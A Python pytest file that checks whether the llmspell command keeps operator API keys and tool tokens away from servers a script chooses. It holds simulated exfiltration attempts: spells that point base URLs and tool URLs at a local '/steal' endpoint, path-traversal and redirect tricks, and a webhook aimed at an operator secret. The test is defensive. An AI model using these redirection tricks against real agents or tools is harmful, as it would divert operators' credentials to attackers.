"""Operator credentials go only to the operator's endpoints (issue 12, docs/providers.md
"Keys and endpoints"), end to end through the real ``llmspell`` command.

Two recording HTTP servers run on 127.0.0.1: the *operator's* (configured as the
providers' and tools' endpoint; it answers OpenAI-, Anthropic-, Slack-, GitHub-,
Brave- and SendGrid-shaped requests) and the *spell's* (a server the spell names
itself). Every operator key is a distinct marker; the spell's server must never see
one, and no marker may appear in the command's output. Every provider preset, every
credentialed tool, Lua and JavaScript.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from llmspell_providers.presets import PRESETS

_SCRIPT = Path(sys.executable).parent / "llmspell"
COMMAND = [str(_SCRIPT)] if _SCRIPT.exists() else [sys.executable, "-m", "llmspell_cli.main"]

#: one distinct operator secret per preset key variable
KEYS = {p["api_key_env"]: f"opkey-{name}-Zq9x81" for name, p in PRESETS.items() if p["api_key_env"]}
KEYED = [name for name, p in PRESETS.items() if p["api_key_env"]]
LOCAL = [name for name, p in PRESETS.items() if not p["api_key_env"]]
TOOL_SECRETS = {
    "LLMSPELL_SMTP_PASSWORD": "smtp-op-password-Zq9x81",
    "SLACK_BOT_TOKEN": "xoxb-op-slack-Zq9x81",
    "GITHUB_TOKEN": "ghp-op-github-Zq9x81",
    "BRAVE_API_KEY": "brave-op-key-Zq9x81",
    "SENDGRID_API_KEY": "SG.op-sendgrid-Zq9x81",
    "HOOK_SECRET": "hook-op-secret-Zq9x81",
}
MARKERS = [*KEYS.values(), *TOOL_SECRETS.values()]

OPENAI_ANSWER = {
    "id": "c1",
    "object": "chat.completion",
    "created": 0,
    "model": "m",
    "choices": [
        {"index": 0, "message": {"role": "assistant", "content": "pong"}, "finish_reason": "stop"}
    ],
    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
}
ANTHROPIC_ANSWER = {
    "id": "msg_1",
    "type": "message",
    "role": "assistant",
    "model": "m",
    "content": [{"type": "text", "text": "pong"}],
    "stop_reason": "end_turn",
    "stop_sequence": None,
    "usage": {"input_tokens": 1, "output_tokens": 1},
}


@dataclass
class Seen:
    """One request a recording server received."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Recorder:
    """A local HTTP server that records every request (headers included) and answers
    like the service the path names; ``redirect_to`` makes ``/redirect...`` a 307."""

    port: int = 0
    seen: list[Seen] = field(default_factory=list)
    redirect_to: str = ""

    def url(self, path: str = "") -> str:
        """``http://127.0.0.1:PORT`` + ``path``."""
        return f"http://127.0.0.1:{self.port}{path}"

    def everything(self) -> str:
        """Every request as text (for looking for leaked secrets)."""
        return "\n".join(
            f"{s.method} {s.path} {json.dumps(s.headers)} {s.body.decode('utf-8', 'replace')}"
            for s in self.seen
        )

    def answer(self, method: str, path: str) -> tuple[int, dict[str, str], Any]:
        """Status, headers and JSON body for a request to ``path``."""
        bare = path.split("?", 1)[0]
        if bare.startswith("/redirect"):
            return 307, {"Location": self.redirect_to + bare}, {}
        if bare.endswith("/chat/completions"):
            return 200, {}, OPENAI_ANSWER
        if bare.endswith("/messages"):
            return 200, {}, ANTHROPIC_ANSWER
        if bare.endswith("/chat.postMessage"):
            return 200, {}, {"ok": True, "channel": "C1", "ts": "1.2"}
        if bare.endswith("/v3/mail/send"):
            return 202, {"X-Message-Id": "m1"}, {}
        if "/web/search" in bare:
            return 200, {}, {"web": {"results": []}}
        if bare.startswith("/repos/"):
            return 200, {}, {"full_name": "o/r", "html_url": "https://example.com/o/r"}
        return 200, {}, {"ok": True}


def _serve(recorder: Recorder) -> ThreadingHTTPServer:
    class Handler(BaseHTTPRequestHandler):
        def _handle(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            body = self.rfile.read(length) if length else b""
            headers = {k.lower(): v for k, v in self.headers.items()}
            recorder.seen.append(Seen(self.command, self.path, headers, body))
            status, extra, payload = recorder.answer(self.command, self.path)
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            for name, value in extra.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PUT = _handle

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    recorder.port = int(server.server_address[1])
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def servers() -> Iterator[tuple[Recorder, Recorder]]:
    """``(operator, spell)``: the operator's endpoint and a server the spell picks."""
    operator, spell = Recorder(), Recorder()
    running = [_serve(operator), _serve(spell)]
    operator.redirect_to = spell.url()
    try:
        yield operator, spell
    finally:
        for server in running:
            server.shutdown()
            server.server_close()


def _run(
    tmp: Path,
    name: str,
    source: str,
    config: str = "",
    *flags: str,
    env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[str]:
    """``llmspell run NAME`` in ``tmp`` with an isolated env holding every operator key."""
    (tmp / "llmspell.toml").write_text(config, encoding="utf-8")
    (tmp / name).write_text(source, encoding="utf-8")
    secret_like = ("_API_KEY", "_TOKEN", "_SECRET", "_PASSWORD", "AWS_")
    base = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith("LLMSPELL_") and not any(s in k for s in secret_like)
    }
    base.update(LLMSPELL_HOME=str(tmp / "home"), HOME=str(tmp), NO_COLOR="1", COLUMNS="200")
    if "LLMSPELL_LOAD_PLUGINS" in os.environ:
        base["LLMSPELL_LOAD_PLUGINS"] = os.environ["LLMSPELL_LOAD_PLUGINS"]
    base.update(KEYS)
    base.update(env or {})
    return subprocess.run(
        [*COMMAND, "run", name, *flags],
        cwd=tmp,
        env=base,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
    )


def _no_marker(proc: subprocess.CompletedProcess[str], *recorders: Recorder) -> None:
    text = proc.stdout + proc.stderr
    for marker in MARKERS:
        assert marker not in text, f"{marker} leaked into the output:\n{text}"
    for recorder in recorders:
        seen = recorder.everything()
        for marker in MARKERS:
            assert marker not in seen, f"{marker} reached a spell-chosen server:\n{seen}"


def _lines(proc: subprocess.CompletedProcess[str]) -> dict[str, str]:
    assert proc.returncode == 0, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    out: dict[str, str] = {}
    for line in proc.stdout.splitlines():
        name, _, rest = line.partition("\t")
        out[name] = rest
    return out


def _probe(lang: str, names: list[str], fields: str) -> str:
    """A spell that creates an agent on each provider in ``names`` with ``fields`` and
    prints ``name<TAB>ok|<error>`` per provider."""
    if lang == "lua":
        listed = ", ".join(f'"{n}"' for n in names)
        return f"""
for _, name in ipairs({{{listed}}}) do
  local ok, err = pcall(function()
    local a = Agent.create{{model = name .. "/m", {fields}}}
    return a:execute("hi").text
  end)
  print(name .. "\\t" .. (ok and ("ok " .. err) or tostring(err)))
end
"""
    listed = ", ".join(json.dumps(n) for n in names)
    return f"""
for (const name of [{listed}]) {{
  try {{
    const a = await Agent.create({{model: name + "/m", {fields}}})
    print(name + "\\t" + "ok " + (await a.execute("hi")).text)
  }} catch (e) {{
    print(name + "\\t" + String(e))
  }}
}}
"""


# -- providers ---------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["lua", "js"])
def test_no_preset_key_reaches_a_spell_chosen_base_url(
    lang: str, servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """The issue's attack, for every preset: network off and 127.0.0.1 denied, the spell
    names its own server. Keyed presets: SecurityError naming the variable (never the
    key); local presets (no key) are stopped by the network policy. Nothing arrives."""
    _, spell = servers
    config = '[security]\nallow_network = false\ndenied_hosts = ["127.0.0.1"]\n'
    field = "base_url" if lang == "lua" else "baseUrl"
    source = _probe(lang, list(PRESETS), f'{field} = "{spell.url("/internal-admin?x=")}"')
    if lang == "js":
        source = source.replace(f"{field} = ", f"{field}: ")
    proc = _run(tmp_path, f"p.{lang}", source, config)
    lines = _lines(proc)
    assert set(lines) == set(PRESETS)
    for name in KEYED:
        line = lines[name]
        assert "SecurityError: " in line, line
        assert PRESETS[name]["api_key_env"] in line and "allowed_base_urls" in line, line
        assert "/internal-admin" in line and "?x=" not in line, line
    for name in LOCAL:
        assert "network access is not allowed" in lines[name], lines[name]
    assert spell.seen == []
    _no_marker(proc, spell)


@pytest.mark.parametrize("lang", ["lua", "js"])
def test_with_the_network_open_a_spell_endpoint_still_gets_no_operator_key(
    lang: str, servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """Even with --allow-host 127.0.0.1: keyed presets refuse (no request), keyless ones
    reach the spell's server without any operator credential."""
    _, spell = servers
    sep = " = " if lang == "lua" else ": "
    field = "base_url" if lang == "lua" else "baseUrl"
    source = _probe(lang, list(PRESETS), f'{field}{sep}"{spell.url("/v1")}"')
    proc = _run(tmp_path, f"p.{lang}", source, "", "--allow-host", "127.0.0.1")
    lines = _lines(proc)
    for name in KEYED:
        assert "SecurityError" in lines[name] and PRESETS[name]["api_key_env"] in lines[name]
    for name in LOCAL:
        assert lines[name] == "ok pong", lines[name]
    assert len(spell.seen) == len(LOCAL)
    for seen in spell.seen:
        assert seen.path == "/v1/chat/completions"
        assert seen.headers.get("authorization") == "Bearer not-needed"
    _no_marker(proc, spell)


def test_a_spell_endpoint_with_its_own_key_passes_the_network_policy(
    servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """A spell that brings its own api_key may use its own server, but like any HTTP
    tool: network off by default, private addresses refused, denied hosts refused."""
    _, spell = servers
    lua = f"""
local ok, err = pcall(function()
  local a = Agent.create{{model = "openai/gpt-4o-mini", base_url = "{spell.url("/v1")}",
                          api_key = "spell-own-key"}}
  return a:execute("hi").text
end)
print(ok, tostring(err))
"""
    js = f"""
try {{
  const a = await Agent.create({{model: "anthropic/claude", baseUrl: "{spell.url()}",
                                 apiKey: "spell-own-key"}})
  print(true, (await a.execute("hi")).text)
}} catch (e) {{ print(false, e.message) }}
"""
    cases = [
        ((), "", "network access is not allowed"),
        (("--allow-net",), "", "loopback address"),
        (("--allow-net",), '[security]\ndenied_hosts = ["127.0.0.1"]\n', "denied_hosts"),
    ]
    for flags, config, words in cases:
        for name, source in (("s.lua", lua), ("s.js", js)):
            proc = _run(tmp_path, name, source, config, *flags)
            assert proc.returncode == 0, proc.stderr
            assert proc.stdout.startswith("false") and words in proc.stdout, proc.stdout
            _no_marker(proc, spell)
    assert spell.seen == []
    for name, source in (("s.lua", lua), ("s.js", js)):
        proc = _run(tmp_path, name, source, "", "--allow-host", "127.0.0.1")
        assert proc.stdout.split() == ["true", "pong"], proc.stdout + proc.stderr
        _no_marker(proc, spell)
    openai, anthropic = spell.seen
    assert openai.path == "/v1/chat/completions"
    assert openai.headers["authorization"] == "Bearer spell-own-key"
    assert anthropic.path == "/v1/messages"
    assert anthropic.headers["x-api-key"] == "spell-own-key"


def _operator_config(operator: Recorder) -> str:
    return f"""
[security]
allow_network = false

[providers.openai]
base_url = "{operator.url("/v1")}"
allowed_base_urls = ["{operator.url("/alt")}"]

[providers.anthropic]
base_url = "{operator.url()}"

[providers.local]
base_url = "{operator.url("/local/v1")}"
"""


@pytest.mark.parametrize("lang", ["lua", "js"])
def test_operator_endpoints_keep_working_without_allow_net(
    lang: str, servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """The operator's endpoints (base_url, allowed_base_urls, a keyless local server)
    get the operator's key with the network off; a URL under no configured one does
    not (path traversal, a query, another host name for the same address)."""
    operator, spell = servers
    field = "base_url" if lang == "lua" else "baseUrl"
    sep = " = " if lang == "lua" else ": "
    cases = {
        "openai": "",
        "anthropic": "",
        "local": "",
        "openai-alt": operator.url("/alt/v1"),
        "openai-slash": operator.url("/v1/"),
        "openai-dots": operator.url("/v1/./x/.."),
        "openai-traversal": operator.url("/alt/../admin"),
        "openai-query": operator.url("/v1?x="),
        "openai-prefix": operator.url("/alternative"),
        "openai-other-name": f"http://localhost:{operator.port}/v1",
    }
    if lang == "lua":
        parts = []
        for label, url in cases.items():
            provider = label.split("-")[0]
            extra = f', {field}{sep}"{url}"' if url else ""
            parts.append(
                f'do local ok, err = pcall(function() return Agent.create{{model = "{provider}/m"'
                f'{extra}}}:execute("hi").text end) print("{label}\\t" .. tostring(err)) end'
            )
        source = "\n".join(parts)
    else:
        parts = []
        for label, url in cases.items():
            provider = label.split("-")[0]
            extra = f', {field}{sep}"{url}"' if url else ""
            parts.append(
                f'try {{ const a = await Agent.create({{model: "{provider}/m"{extra}}}); '
                f'print("{label}\\t" + (await a.execute("hi")).text) }} '
                f'catch (e) {{ print("{label}\\t" + e.message) }}'
            )
        source = "\n".join(parts)
    proc = _run(tmp_path, f"o.{lang}", source, _operator_config(operator))
    lines = _lines(proc)
    for label in ("openai", "anthropic", "local", "openai-alt", "openai-slash", "openai-dots"):
        assert lines[label] == "pong", (label, lines[label])
    for label in ("openai-traversal", "openai-query", "openai-prefix", "openai-other-name"):
        assert "is not an endpoint configured for provider 'openai'" in lines[label], lines
        assert "OPENAI_API_KEY" in lines[label]
    got = [
        (s.path, s.headers.get("authorization"), s.headers.get("x-api-key")) for s in operator.seen
    ]
    openai_key, anthropic_key = KEYS["OPENAI_API_KEY"], KEYS["ANTHROPIC_API_KEY"]
    assert got == [
        ("/v1/chat/completions", f"Bearer {openai_key}", None),
        ("/v1/messages", f"Bearer {anthropic_key}", anthropic_key),
        ("/local/v1/chat/completions", "Bearer not-needed", None),
        ("/alt/v1/chat/completions", f"Bearer {openai_key}", None),
        ("/v1/chat/completions", f"Bearer {openai_key}", None),
        ("/v1/chat/completions", f"Bearer {openai_key}", None),
    ]
    assert spell.seen == []
    _no_marker(proc, spell)


def test_a_configured_endpoint_cannot_redirect_the_key(
    servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """Provider clients follow no redirect: a configured endpoint answering 307 to
    another server sends nothing there (the key would ride along, x-api-key too)."""
    operator, spell = servers
    config = f"""
[providers.openai]
base_url = "{operator.url("/redirect/v1")}"
max_retries = 0
[providers.anthropic]
base_url = "{operator.url("/redirect")}"
max_retries = 0
"""
    source = """
for _, model in ipairs({"openai/m", "anthropic/m"}) do
  local ok, err = pcall(function() return Agent.create{model = model}:execute("hi") end)
  print(model, ok, tostring(err))
end
"""
    proc = _run(tmp_path, "r.lua", source, config, "--allow-host", "127.0.0.1")
    assert proc.returncode == 0, proc.stderr
    assert [line.split("\t")[1] for line in proc.stdout.splitlines()] == ["false", "false"]
    assert len(operator.seen) == 2 and spell.seen == []
    _no_marker(proc, spell)


def test_agent_info_and_json_output_never_show_a_key(
    servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """Agent.list, Provider.get, a failed creation and --output json name no key."""
    operator, _ = servers
    source = """
const a = await Agent.create({model: "openai/m", apiKey: "spell-key-Zq9x81"})
print(JSON.stringify(Agent.list()), JSON.stringify(Provider.get("openai")))
await Agent.create({model: "openai/m", baseUrl: "http://127.0.0.1:9/v1"})
"""
    proc = _run(tmp_path, "i.js", source, _operator_config(operator), "--output", "json")
    assert proc.returncode == 1
    assert "SecurityError" in proc.stdout + proc.stderr
    assert "spell-key-Zq9x81" not in proc.stdout + proc.stderr
    _no_marker(proc)


# -- tools -------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def smtp_servers() -> Iterator[tuple[int, int, list[tuple[int, bytes, bytes]]]]:
    """Two aiosmtpd servers on 127.0.0.1 (operator's, spell's) recording logins."""
    from aiosmtpd.controller import Controller
    from aiosmtpd.smtp import AuthResult

    logins: list[tuple[int, bytes, bytes]] = []

    class Handler:
        async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
            return "250 OK"

    controllers = []
    ports = []
    for _ in range(2):
        port = _free_port()

        def auth(server: Any, session: Any, envelope: Any, mech: str, data: Any, p: int = port):
            logins.append((p, data.login, data.password))
            return AuthResult(success=True, handled=False)

        controller = Controller(
            Handler(), hostname="127.0.0.1", port=port, authenticator=auth, auth_require_tls=False
        )
        controller.start()
        controllers.append(controller)
        ports.append(port)
    try:
        yield ports[0], ports[1], logins
    finally:
        for controller in controllers:
            controller.stop()


def test_smtp_login_only_to_the_operator_server(
    smtp_servers: tuple[int, int, list[tuple[int, bytes, bytes]]], tmp_path: Path
) -> None:
    """email-sender: the operator's SMTP login goes only to LLMSPELL_SMTP_HOST:PORT as
    LLMSPELL_SMTP_USERNAME; a spell-chosen server or username gets none."""
    op_port, spell_port, logins = smtp_servers
    env = {
        "LLMSPELL_SMTP_HOST": "127.0.0.1",
        "LLMSPELL_SMTP_PORT": str(op_port),
        "LLMSPELL_SMTP_SECURITY": "none",
        "LLMSPELL_SMTP_USERNAME": "mailer",
        "LLMSPELL_SMTP_PASSWORD": TOOL_SECRETS["LLMSPELL_SMTP_PASSWORD"],
    }
    source = f"""
local mail = {{to = "ann@example.com", subject = "s", body = "b", ["from"] = "r@example.com"}}
local function send(extra)
  local p = {{}}
  for k, v in pairs(mail) do p[k] = v end
  for k, v in pairs(extra) do p[k] = v end
  local r = Tool.execute("email-sender", p)
  print(r.success, r.error_kind or "-", r.error or "-")
end
send({{host = "127.0.0.1", port = {spell_port}, security = "none", username = "mailer"}})
send({{host = "127.0.0.1", port = {spell_port}, security = "none"}})
send({{port = {op_port}, username = "root"}})
send({{}})
"""
    proc = _run(tmp_path, "m.lua", source, "", "--allow-host", "127.0.0.1", env=env)
    assert proc.returncode == 0, proc.stderr
    rows = [line.split("\t") for line in proc.stdout.splitlines()]
    assert [r[:2] for r in rows] == [
        ["false", "SecurityError"],
        ["true", "-"],
        ["false", "SecurityError"],
        ["true", "-"],
    ], proc.stdout
    assert "LLMSPELL_SMTP_PASSWORD" in rows[0][2]
    secret = TOOL_SECRETS["LLMSPELL_SMTP_PASSWORD"].encode()
    assert logins == [(op_port, b"mailer", secret)]
    _no_marker(proc)


def test_http_tools_send_their_tokens_only_to_the_configured_urls(
    servers: tuple[Recorder, Recorder], tmp_path: Path
) -> None:
    """slack-integration, github-integration, web-searcher, email-sender (SendGrid) and
    webhook-caller: a spell cannot point an operator credential at its own server (no
    URL parameter exists, secret_env is bound to the operator's URLs); the configured
    endpoints receive them."""
    operator, spell = servers
    env = {
        **TOOL_SECRETS,
        "LLMSPELL_SLACK_API_URL": operator.url("/api"),
        "LLMSPELL_GITHUB_API_URL": operator.url(),
        "LLMSPELL_SEARCH_BRAVE_URL": operator.url("/res/v1/web/search"),
        "LLMSPELL_SENDGRID_URL": operator.url(),
    }
    config = (
        f'[tools.webhook-caller]\nsecret_envs = {{ HOOK_SECRET = "{operator.url("/hooks")}" }}\n'
    )
    evil = spell.url("/steal")
    source = f"""
const calls = [
  ["slack-integration", {{operation: "send_message", channel: "C0123", text: "hi",
                          api_url: "{evil}"}}],
  ["github-integration", {{operation: "get_repo", repo: "o/r", api_url: "{evil}"}}],
  ["web-searcher", {{input: "q", provider: "brave", url: "{evil}"}}],
  ["email-sender", {{provider: "sendgrid", to: "a@example.com", subject: "s", body: "b",
                     from: "r@example.com", sendgrid_url: "{evil}"}}],
  ["webhook-caller", {{input: "{evil}", payload: {{}}, secret_env: "HOOK_SECRET"}}],
  ["webhook-caller", {{input: "{evil}", payload: {{}}, secret_env: "OPENAI_API_KEY"}}],
  ["slack-integration", {{operation: "send_message", channel: "C0123", text: "hi"}}],
  ["github-integration", {{operation: "get_repo", repo: "o/r"}}],
  ["web-searcher", {{input: "q", provider: "brave"}}],
  ["email-sender", {{provider: "sendgrid", to: "a@example.com", subject: "s", body: "b",
                     from: "r@example.com"}}],
  ["webhook-caller", {{input: "{operator.url("/hooks/x")}", payload: {{}},
                       secret_env: "HOOK_SECRET"}}],
]
for (const [name, params] of calls) {{
  try {{
    const r = await Tool.execute(name, params)
    print(name + "\\t" + r.success + "\\t" + (r.error_kind || "-"))
  }} catch (e) {{ print(name + "\\tthrew\\t" + e.name) }}
}}
"""
    proc = _run(tmp_path, "t.js", source, config, "--allow-host", "127.0.0.1", env=env)
    assert proc.returncode == 0, proc.stderr
    rows = [line.split("\t") for line in proc.stdout.splitlines()]
    assert len(rows) == 11, proc.stdout
    for row in rows[:4]:
        assert row[1:] in (["false", "ValidationError"], ["threw", "ValidationError"]), row
    assert rows[4][1:] == ["false", "SecurityError"] and rows[5][1:] == ["false", "SecurityError"]
    assert all(row[1] == "true" for row in rows[6:]), proc.stdout
    assert spell.seen == []
    auth = [s.headers.get("authorization") for s in operator.seen]
    assert f"Bearer {TOOL_SECRETS['SLACK_BOT_TOKEN']}" in auth
    assert f"Bearer {TOOL_SECRETS['GITHUB_TOKEN']}" in auth
    assert f"Bearer {TOOL_SECRETS['SENDGRID_API_KEY']}" in auth
    brave = [s for s in operator.seen if "/web/search" in s.path]
    assert brave and brave[0].headers["x-subscription-token"] == TOOL_SECRETS["BRAVE_API_KEY"]
    hook = [s for s in operator.seen if s.path.startswith("/hooks")]
    assert hook and hook[0].headers["x-llmspell-signature"].startswith("sha256=")
    _no_marker(proc, spell)
